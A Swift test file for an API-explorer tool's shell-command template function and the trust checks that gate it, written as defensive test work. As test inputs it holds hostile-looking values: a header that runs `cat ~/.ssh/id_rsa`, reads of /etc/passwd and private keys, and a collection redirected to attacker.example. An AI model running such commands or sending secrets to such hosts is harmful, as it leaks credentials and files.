import Foundation
import TestSupport
import Testing

@testable import Formats
@testable import Workspace

/// `{{command "…"}}`: a shell command's trimmed output (a secret manager's answer), run once
/// per request, bounded in time and size, masked like a secret, and only from a collection
/// the user opened by name or trusted.
@Suite struct CommandFunctionTests {
    /// A folder holding a collection file and a private state folder for the trust list,
    /// removed when the test is done with it.
    private final class Sandbox {
        private let directory: TemporaryFolder
        let folder: URL
        let collectionFile: URL
        var environment: [String: String] {
            ["XDG_STATE_HOME": folder.appendingPathComponent("state").path, "PATH": "/usr/bin:/bin"]
        }

        init(_ yaml: String) throws {
            directory = try TemporaryFolder()
            folder = directory.url
            collectionFile = folder.appendingPathComponent("explorer.yaml")
            try Data(yaml.utf8).write(to: collectionFile)
        }

        deinit { directory.cleanUp() }

        func load() throws -> APICollection { try CollectionLoader.load(from: collectionFile) }

        /// Trusts the collection with what it reaches now, as `explorer trust` does.
        func trust() throws {
            try CollectionTrust(environment: environment).trust(
                collectionFile, reach: try #require(CollectionReach(loading: collectionFile)))
        }

        func resolve(_ name: String, extra: [String: String] = [:], runsCommands: Bool = true) throws -> ResolvedRequest
        {
            let collection = try load()
            var resolver = RequestResolver(processEnvironment: environment.merging(extra) { $1 })
            resolver.runsCommands = runsCommands
            return try resolver.resolve(try collection.endpoint(named: name), in: collection)
        }
    }

    private static let yaml = #"""
        name: Commands
        environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
        endpoints:
          - name: Token
            path: /me
            headers:
              Authorization: "Bearer {{command \"echo '  tok-123'; echo run >> runs.txt\"}}"
              X-Again: "{{command \"echo '  tok-123'; echo run >> runs.txt\"}}"
          - name: Fails
            path: "/x/{{command \"echo nope >&2; exit 3\"}}"
          - name: Slow
            path: "/x/{{command \"sleep 5; echo late\"}}"
          - name: Loud
            path: "/x/{{command \"head -c 2000000 /dev/zero\"}}"
        """#

    @Test func aTrustedCollectionRunsTheCommandOncePerRequestAndMasksItsOutput() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        let resolved = try sandbox.resolve("Token")
        #expect(resolved.request.headers["Authorization"] == "Bearer tok-123")
        #expect(resolved.request.headers["X-Again"] == "tok-123")
        let runs = try String(contentsOf: sandbox.folder.appendingPathComponent("runs.txt"), encoding: .utf8)
        #expect(runs == "run\n", "run once, in the collection's folder")
        #expect(resolved.maskedHeaders["Authorization"] == "Bearer \(SecretMasker.mask)")
        #expect(resolved.maskedHeaders["X-Again"] == SecretMasker.mask)
    }

    @Test func aCollectionFoundButNotTrustedRunsNothingAndSaysHowToTrustIt() throws {
        let sandbox = try Sandbox(Self.yaml)
        #expect {
            try sandbox.resolve("Token")
        } throws: { error in
            let text = String(describing: error)
            return text.contains("was found, not named")
                && text.contains("explorer trust \(sandbox.collectionFile.path)")
                && text.hasPrefix("\(sandbox.collectionFile.path):")
        }
        #expect(!FileManager.default.fileExists(atPath: sandbox.folder.appendingPathComponent("runs.txt").path))
        // Revoked trust stops it again.
        try sandbox.trust()
        #expect(try CollectionTrust(environment: sandbox.environment).revoke(sandbox.collectionFile))
        #expect(throws: (any Error).self) { try sandbox.resolve("Token") }
    }

    @Test func trustCoversWhatTheCollectionReachesWhenTrusted() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        #expect(throws: Never.self) { try sandbox.resolve("Token") }
        // A pull adds a command: trusted before, it asks again.
        try Data((Self.yaml + "\n  - name: Pulled\n    path: \"/x/{{command \\\"id\\\"}}\"\n").utf8).write(
            to: sandbox.collectionFile)
        #expect(throws: (any Error).self) { try sandbox.resolve("Token") }
        try sandbox.trust()
        #expect(throws: Never.self) { try sandbox.resolve("Token") }
    }

    @Test func aCollectionsReachListsCommandsFilesOutsideItsFolderAndVariables() throws {
        let sandbox = try Sandbox(
            """
            name: Reach
            environments: [{ name: local, base_url: "http://127.0.0.1:1", variables: { key: "{{env.AWS_SECRET_ACCESS_KEY}}" } }]
            endpoints:
              - name: Files
                path: /f
                headers: { X-Host: "{{file /etc/hostname}}", X-Up: "{{file ../../../root/.bashrc}}", X-In: "{{file data/in.txt}}" }
                body: { file: /etc/passwd }
              - name: Command
                path: "/c/{{command\\t\\"id\\"}}"
            """)
        let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
        #expect(
            CollectionReach(collection, folder: sandbox.folder) == reach,
            "read from the file's tree or from the tree it would be written as")
        let outside = sandbox.folder.appendingPathComponent("../../../root/.bashrc").standardizedFileURL
            .resolvingSymlinksInPath().path
        #expect(
            Set(reach.references) == [
                .command("id"), .environmentVariable("AWS_SECRET_ACCESS_KEY"), .file("/etc/hostname"),
                .file("/etc/passwd"), .file(outside),
            ])
        let refusal = try #require(
            CollectionTrust(environment: sandbox.environment).refusal(
                for: collection, reaching: reach, at: sandbox.collectionFile))
        #expect(
            refusal.contains("reads the file /etc/passwd") && refusal.contains("It sends to local http://127.0.0.1:1")
                && refusal.contains("explorer trust"))
    }

    /// A function's arguments are read as expansion reads them: `env.X` as any argument is the
    /// process environment, so `{{url_encode env.X}}` reaches `X` as `{{env.X}}` does.
    @Test func everyArgumentOfEveryFunctionCountsForTheEnvironmentVariablesReached() throws {
        let sandbox = try Sandbox(
            """
            name: Arguments
            environments: [{ name: local, base_url: "http://127.0.0.1:1", variables: { signed: "{{hmac_sha256 env.SIGNING_KEY body}}" } }]
            endpoints:
              - name: Leak
                path: "/l/{{url_encode env.SECRET_TOKEN}}"
                headers: { X-B: "{{ base64   env.AWS_SECRET }}", X-H: "{{sha256 \\"env.NOT_READ\\"}}" }
            """)
        let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
        #expect(
            Set(reach.references) == [
                .environmentVariable("SECRET_TOKEN"), .environmentVariable("AWS_SECRET"),
                .environmentVariable("SIGNING_KEY"),
            ], "a quoted argument is text, not a variable")
        #expect(CollectionReach(collection, folder: sandbox.folder) == reach, "an import reports the same reach")
        #expect(
            CollectionTrust(environment: sandbox.environment).refusal(
                for: collection, reaching: reach, at: sandbox.collectionFile) != nil)
    }

    /// Trust covers where the collection sends too: a pull that points a trusted collection's
    /// `base_url` (or one endpoint) at another server asks again before its secrets go there.
    @Test func trustAsksAgainWhenTheCollectionSendsElsewhere() throws {
        let yaml = """
            name: Bound
            variables: { host: "127.0.0.1:1" }
            environments: [{ name: local, base_url: "http://{{host}}" }]
            endpoints:
              - { name: Me, path: /me, headers: { X-Key: "{{env.API_KEY}}" } }
            """
        let sandbox = try Sandbox(yaml)
        try sandbox.trust()
        let trust = CollectionTrust(environment: sandbox.environment)
        #expect(
            trust.isTrusted(
                sandbox.collectionFile, reach: try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach))
        for moved in [
            yaml.replacingOccurrences(of: "127.0.0.1:1", with: "attacker.example"),
            yaml + "\n  - { name: Other, path: \"https://attacker.example/x\" }",
        ] {
            try Data(moved.utf8).write(to: sandbox.collectionFile)
            let reach = try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach
            #expect(!trust.isTrusted(sandbox.collectionFile, reach: reach))
            #expect(reach.destinations.contains { $0.contains("attacker.example") })
        }
    }

    /// A `.env` linked to a file outside the folder is that file; one that is the folder's own is not.
    @Test func aDotEnvLinkedOutOfTheFolderIsAFileTheCollectionReaches() throws {
        let yaml = """
            name: DotEnv
            environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
            endpoints: [{ name: Ping, path: /ping }]
            """
        let own = try Sandbox(yaml)
        try Data("A=1\n".utf8).write(to: own.folder.appendingPathComponent(".env"))
        #expect(try CollectionLoader.loadReaching(from: own.collectionFile).reach.isEmpty)

        let linked = try Sandbox(yaml)
        let outside = own.folder.appendingPathComponent(".env").resolvingSymlinksInPath().path
        try FileManager.default.createSymbolicLink(
            atPath: linked.folder.appendingPathComponent(".env").path, withDestinationPath: outside)
        #expect(try CollectionLoader.loadReaching(from: linked.collectionFile).reach.references == [.file(outside)])
    }

    /// `tls:` files outside the folder are reached: a client key signs in as its owner.
    @Test func tlsCertificatesAndKeysOutsideTheFolderAreReached() throws {
        let sandbox = try Sandbox(
            """
            name: TLS
            environments:
              - name: prod
                base_url: "https://127.0.0.1:1"
                tls: { ca_cert: certs/ca.pem, client_cert: /etc/ssl/me.pem, client_key: ~/.ssh/me.key }
            endpoints: [{ name: Ping, path: /ping }]
            """)
        let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
        let key = URL(fileURLWithPath: ("~/.ssh/me.key" as NSString).expandingTildeInPath).standardizedFileURL
            .resolvingSymlinksInPath().path
        #expect(Set(reach.references) == [.file("/etc/ssl/me.pem"), .file(key)], "the CA in the folder is its own")
        #expect(CollectionReach(collection, folder: sandbox.folder) == reach)
    }

    /// An `openapi:` file outside the folder is a file it reads; a URL reads nothing of the
    /// machine, is fetched as a request is sent, and is named with where the collection sends.
    @Test func anOpenAPIDocumentOutsideTheFolderIsReachedAndOneNamedByURLIsNamedAsFetched() throws {
        let outside = try Sandbox(
            """
            name: Outside
            openapi: ../shared/openapi.yaml
            environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
            endpoints: [{ name: Ping, path: /ping }]
            """)
        let (_, reachOutside) = try CollectionLoader.loadReaching(from: outside.collectionFile)
        let shared = outside.folder.appendingPathComponent("../shared/openapi.yaml").standardizedFileURL
            .resolvingSymlinksInPath().path
        #expect(reachOutside.references == [.file(shared)])

        let remote = try Sandbox(
            """
            name: Remote
            openapi: https://api.example.com/openapi.json
            environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
            endpoints: [{ name: Ping, path: "/ping", headers: { X-Up: "{{file /etc/hostname}}" } }]
            """)
        let (collection, reach) = try CollectionLoader.loadReaching(from: remote.collectionFile)
        #expect(reach.references == [.file("/etc/hostname")])
        let refusal = try #require(
            CollectionTrust(environment: remote.environment).refusal(
                for: collection, reaching: reach, at: remote.collectionFile))
        #expect(
            refusal.contains(
                "It sends to local http://127.0.0.1:1. It fetches its OpenAPI document from https://api.example.com/openapi.json. Nothing was sent"
            ))
    }

    @Test func theTrustListIsPrivate() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        let list = sandbox.folder.appendingPathComponent("state/explorer/trusted-collections.json")
        let mode = try FileManager.default.attributesOfItem(atPath: list.path)[.posixPermissions] as? Int
        #expect(mode == 0o600)
        #expect(
            try CollectionTrust(environment: sandbox.environment).list().map(\.path) == [
                sandbox.collectionFile.resolvingSymlinksInPath().path
            ])
    }

    @Test func aPreviewShowsTheCommandAsWrittenAndRunsNothing() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        let resolved = try sandbox.resolve("Token", runsCommands: false)
        #expect(resolved.request.headers["X-Again"]?.hasPrefix("{{command ") == true)
        #expect(!FileManager.default.fileExists(atPath: sandbox.folder.appendingPathComponent("runs.txt").path))
    }

    @Test func aFailingCommandSaysItsStatusAndWhatItWroteToStandardError() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        #expect {
            try sandbox.resolve("Fails")
        } throws: { error in
            String(describing: error).contains("failed: it exited with status 3: nope")
        }
    }

    @Test func aCommandIsBoundedInTimeAndOutput() throws {
        let sandbox = try Sandbox(Self.yaml)
        try sandbox.trust()
        let started = Date()
        #expect {
            try sandbox.resolve("Slow", extra: ["EXPLORER_COMMAND_TIMEOUT": "0.3"])
        } throws: { error in
            String(describing: error).contains(
                "did not finish within 0.3 s (EXPLORER_COMMAND_TIMEOUT raises the limit)")
        }
        #expect(Date().timeIntervalSince(started) < 4, "the command and its children were killed")
        #expect {
            try sandbox.resolve("Loud")
        } throws: { error in
            String(describing: error).contains("wrote more than \(TemplateCommand.maximumOutputBytes) bytes")
        }
    }

    @Test func anImportNeverBringsACommandThatRuns() throws {
        let curl =
            #"curl https://api.example.com/me -H 'X-Key: {{command "cat ~/.ssh/id_rsa"}}' -H 'X-Other: {{ command "id"}}'"#
        let result = try CurlImporter().importCommand(curl, name: "Me").disablingCommands()
        let endpoint = try #require(result.collection.endpoints.first)
        #expect(endpoint.headers[named: "X-Key"] == #"{{command_from_import "cat ~/.ssh/id_rsa"}}"#)
        #expect(endpoint.headers[named: "X-Other"] == #"{{ command_from_import "id"}}"#)
        #expect(
            result.warnings.last?.hasPrefix(
                #"2 {{command "…"}} calls came with the import and were renamed to {{command_from_import "…"}}"#)
                == true,
            "\(result.warnings)")
        let plain = try CurlImporter().importCommand("curl https://api.example.com/me", name: "Me")
        #expect(try plain.disablingCommands().warnings == plain.warnings)
    }

    /// What the YAML writes as `\t`, `\r` or `\n` is still a space to the template parser:
    /// an import renames what that parser would run, in every text of the collection.
    @Test func anImportRenamesEveryCallTheParserWouldRun() throws {
        let endpoint = Endpoint(
            name: "Me", method: .post, path: "/me",
            headers: [KeyValue("X-Tab", "{{command\t\"id\"}}"), KeyValue("X-Line", "a {{\ncommand\r\"id\"}} b")],
            body: .raw(#"{"x": "{{command "whoami"}}", "y": "{{commands}}", "z": "{{ command}}"}"#))
        let collection = APICollection(name: "Shared", items: [.endpoint(endpoint)])
        let result = try ImportResult(collection: collection).disablingCommands()
        let imported = try #require(result.collection.endpoints.first)
        #expect(imported.headers[named: "X-Tab"] == "{{command_from_import\t\"id\"}}")
        #expect(imported.headers[named: "X-Line"] == "a {{\ncommand_from_import\r\"id\"}} b")
        // `{{ command}}` alone is a call (with no command) to the parser: renamed too.
        #expect(
            imported.body
                == .raw(
                    #"{"x": "{{command_from_import "whoami"}}", "y": "{{commands}}", "z": "{{ command_from_import}}"}"#)
        )
        #expect(result.warnings.last?.contains(#"("id", "id", "whoami", "")"#) == true, "\(result.warnings)")
        for text in [imported.headers[named: "X-Tab"], imported.headers[named: "X-Line"]] {
            #expect(
                Template(text ?? "").segments.allSatisfy {
                    if case .variable(let name) = $0 { TemplateFunction(name) == nil } else { true }
                })
        }
    }
}
